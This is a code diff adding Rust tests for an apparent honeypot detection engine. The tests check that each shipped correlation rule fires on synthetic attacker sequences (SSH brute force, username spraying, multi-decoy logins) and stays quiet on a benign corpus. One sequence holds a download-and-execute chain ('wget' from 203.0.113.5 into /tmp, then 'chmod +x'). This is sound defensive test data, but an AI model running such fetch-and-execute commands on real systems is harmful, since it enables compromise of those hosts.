@@ -211,3 +211,118 @@ fn a_broken_correlation_is_reported_at_its_place() {
         "{text}"
     );
 }
+
+/// Each shipped correlation rule, with a sequence that must fire it.
+fn shipped_sequences() -> Vec<(&'static str, Vec<String>)> {
+    let at = |s: usize| format!("2026-11-20T08:{:02}:{:02}Z", s / 60, s % 60);
+    let login = |i: usize, attacker: &str, user: &str, service: &str, decky: &str, s: usize| {
+        serde_json::json!({
+            "source_kind": "auth_attempt", "source_id": format!("{attacker}-{i}"),
+            "attacker_uuid": attacker, "decky_id": decky,
+            "payload": {"username": user, "service": service, "result": "fail", "ts": at(s)},
+        })
+        .to_string()
+    };
+    let command = |i: usize, text: &str| {
+        serde_json::json!({
+            "source_kind": "command", "source_id": format!("c-{i}"),
+            "attacker_uuid": "att-c4", "session_id": "sess-c4",
+            "payload": {"command_text": text, "ts": at(i * 40)},
+        })
+        .to_string()
+    };
+    vec![
+        (
+            "TTP-C001",
+            (0..10)
+                .map(|i| login(i, "att-c1", "root", "ssh", "decky-1", i * 15))
+                .collect(),
+        ),
+        (
+            "TTP-C002",
+            ["root", "admin", "oracle", "pi", "ubnt"]
+                .iter()
+                .enumerate()
+                .map(|(i, u)| login(i, "att-c2", u, "ssh", "decky-1", i * 60))
+                .collect(),
+        ),
+        (
+            "TTP-C003",
+            (0..5)
+                .map(|i| login(i, "att-c3", "root", "ssh", &format!("decky-{i}"), i * 30))
+                .collect(),
+        ),
+        (
+            "TTP-C004",
+            vec![
+                command(0, "uname -a"),
+                command(1, "cd /tmp && wget http://203.0.113.5/a"),
+                command(2, "chmod +x /tmp/a"),
+            ],
+        ),
+    ]
+}
+
+fn shipped_rules() -> std::path::PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR")).join("rules")
+}
+
+fn correlation_tags(db: &Path) -> Vec<String> {
+    let conn = rusqlite::Connection::open(db).unwrap();
+    let mut stmt = conn
+        .prepare("SELECT rule_id FROM ttp_tag WHERE source_kind = 'correlation' ORDER BY rule_id")
+        .unwrap();
+    stmt.query_map([], |r| r.get(0))
+        .unwrap()
+        .map(Result::unwrap)
+        .collect()
+}
+
+#[test]
+fn each_shipped_correlation_rule_fires_on_its_sequence_alone() {
+    let loaded = ttp_engine::rule::load::load_dir(
+        &shipped_rules(),
+        ttp_engine::rule::parse::LoadOptions::default(),
+    )
+    .unwrap();
+    let mut shipped: Vec<String> = loaded
+        .rules
+        .iter()
+        .filter(|r| r.correlation().is_some())
+        .map(|r| r.rule_id.clone())
+        .collect();
+    shipped.sort();
+    let sequences = shipped_sequences();
+    let covered: Vec<String> = sequences.iter().map(|(id, _)| id.to_string()).collect();
+    assert_eq!(
+        shipped, covered,
+        "every shipped correlation rule needs a sequence here"
+    );
+    let work = tempfile::TempDir::new().unwrap();
+    for (id, events) in sequences {
+        let db = work.path().join(format!("{id}.db"));
+        tag(&shipped_rules(), &db, &events);
+        assert_eq!(correlation_tags(&db), [id], "{id}");
+        // One event fewer: nothing.
+        let db = work.path().join(format!("{id}-short.db"));
+        tag(&shipped_rules(), &db, &events[..events.len() - 1]);
+        assert!(
+            correlation_tags(&db).is_empty(),
+            "{id} fired one event short"
+        );
+    }
+}
+
+#[test]
+fn no_shipped_correlation_rule_fires_on_the_benign_corpus() {
+    let benign = std::fs::read_to_string(
+        Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/benign.jsonl"),
+    )
+    .unwrap();
+    let events: Vec<String> = benign.lines().map(String::from).collect();
+    assert!(events.len() >= 300);
+    let work = tempfile::TempDir::new().unwrap();
+    let db = work.path().join("benign.db");
+    tag(&shipped_rules(), &db, &events);
+    assert_eq!(correlation_tags(&db), Vec::<String>::new());
+}
